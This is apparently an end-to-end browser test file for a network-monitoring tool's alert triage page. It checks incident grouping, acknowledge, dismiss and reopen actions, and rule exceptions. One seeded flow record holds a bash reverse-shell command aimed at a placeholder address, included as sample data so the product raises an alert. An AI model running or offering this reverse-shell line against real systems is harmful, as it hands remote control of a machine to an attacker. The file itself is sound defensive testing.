"""Alerts in the page: what became of each, what can be done, and which belong together."""

import re
import time
from collections.abc import Generator
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.e2e.conftest import keep, violations
from tests.support.raw_flows import line
from tests.support.served import EVER, Served

ALERTS = "query($r: TimeRangeInput!) { alerts(range: $r, first: 9) { nodes { title status note } } }"

pytestmark = pytest.mark.server


@pytest.fixture(scope="module")
def raised(built: None, tmp_path_factory: pytest.TempPathFactory) -> Generator[Served]:
    """Three alerts about one workload within a minute: two denials, and arguments of a shell."""
    start = int(time.time()) - 3600
    common: dict[str, Any] = {
        "source_type": "wep", "source_namespace": "shop", "source_name": "web-1", "source_name_aggr": "web-*",
        "dest_type": "wep", "dest_namespace": "data", "reporter": "src", "proto": "tcp", "dest_port": 5432,
    }  # fmt: skip
    lines = [
        line(start, **common, action="deny", dest_name_aggr="postgres-*"),
        line(start + 20, **common, action="deny", dest_name_aggr="vault-*"),
        line(
            start + 40, **common, action="allow", dest_name_aggr="cache-*",
            process_name="/bin/sh", process_args=["sh -i >& /dev/tcp/192.0.2.7/4444 0>&1"],
        ),
    ]  # fmt: skip
    with Served(tmp_path_factory.mktemp("triage") / "data") as served:
        served.ingest(lines, "east")
        yield served


@pytest.fixture
def alerts(browser: Browser, raised: Served) -> Generator[Page]:
    context = browser.new_context(viewport={"width": 1600, "height": 1000}, color_scheme="dark")
    page = context.new_page()
    complaints: list[str] = []
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.on("console", lambda message: complaints.append(message.text) if message.type == "error" else None)
    page.goto(f"{raised.url}/alerts")
    expect(page.get_by_test_id("alert-row")).to_have_count(3)
    yield page
    context.close()
    assert complaints == []


def told(served: Served) -> dict[str, tuple[str, str]]:
    nodes = served.ask(ALERTS, {"r": EVER})["alerts"]["nodes"]
    return {each["title"]: (each["status"], each["note"]) for each in nodes}


def test_alerts_of_a_workload_belong_together_and_are_judged(alerts: Page, raised: Served) -> None:
    row = alerts.get_by_test_id("alert-row").filter(has_text="arguments")
    row.click()
    expect(alerts.get_by_test_id("mitigations").get_by_role("listitem").first).to_be_visible()
    incident = alerts.get_by_test_id("incident")
    expect(incident.get_by_role("heading")).to_contain_text("Incident of 3 alerts, open")
    expect(incident.get_by_role("listitem")).to_have_count(3)
    keep(alerts, raised, "alert-triage-dark")
    assert violations(alerts) == []
    title = alerts.get_by_role("heading", level=2).inner_text()

    alerts.keyboard.press("a")
    said = alerts.get_by_test_id("triage-said")
    expect(alerts.get_by_test_id("alert-row")).to_have_count(2)
    alerts.get_by_role("button", name="Acknowledged").click()
    expect(alerts.get_by_test_id("alert-row")).to_have_count(1)
    expect(said).to_contain_text("Acknowledged")
    assert told(raised)[title] == ("ACKNOWLEDGED", "")

    alerts.get_by_test_id("dismiss").click()
    expect(alerts.get_by_test_id("confirm-dismiss")).to_be_disabled()
    alerts.get_by_test_id("triage-note").fill("A drill of <b>ours</b>.")
    alerts.get_by_test_id("confirm-dismiss").click()
    alerts.get_by_role("button", name="Dismissed").click()
    expect(said).to_contain_text("A drill of <b>ours</b>.")
    assert told(raised)[title] == ("DISMISSED", "A drill of <b>ours</b>.")

    alerts.get_by_test_id("reopen").click()
    expect(alerts.get_by_test_id("alert-row")).to_have_count(0)
    assert told(raised)[title] == ("OPEN", "")
    alerts.reload()
    expect(alerts.get_by_test_id("alert-row")).to_have_count(3)


def test_what_an_alert_is_about_is_excepted_from_its_rule(alerts: Page, raised: Served) -> None:
    alerts.get_by_test_id("alert-row").filter(has_text="arguments").click()
    keep(alerts, raised, "alert-of-a-rule")
    alerts.get_by_test_id("except").click()
    expect(alerts.get_by_test_id("rule-excepts")).to_contain_text('source_name_aggr : "web-*"')
    expect(alerts.get_by_test_id("rule-text")).to_have_value(re.compile(r"and not \(source_namespace"))
    assert violations(alerts) == []
    keep(alerts, raised, "excepted")
    alerts.get_by_test_id("rule-save").click()
    expect(alerts.get_by_test_id("rule-excepts")).to_have_count(0)
    assert "except" not in alerts.url
    rules = raised.ask("{ alertRules(limit: 100) { title filter replacesBuiltin } }")["alertRules"]
    (changed,) = [each for each in rules if each["replacesBuiltin"]]
    assert changed["filter"].endswith(
        'and not (source_namespace : "shop" and source_name_aggr : "web-*" and dest_namespace : "data" '
        'and dest_name_aggr : "cache-*" and dest_port : 5432)'
    )
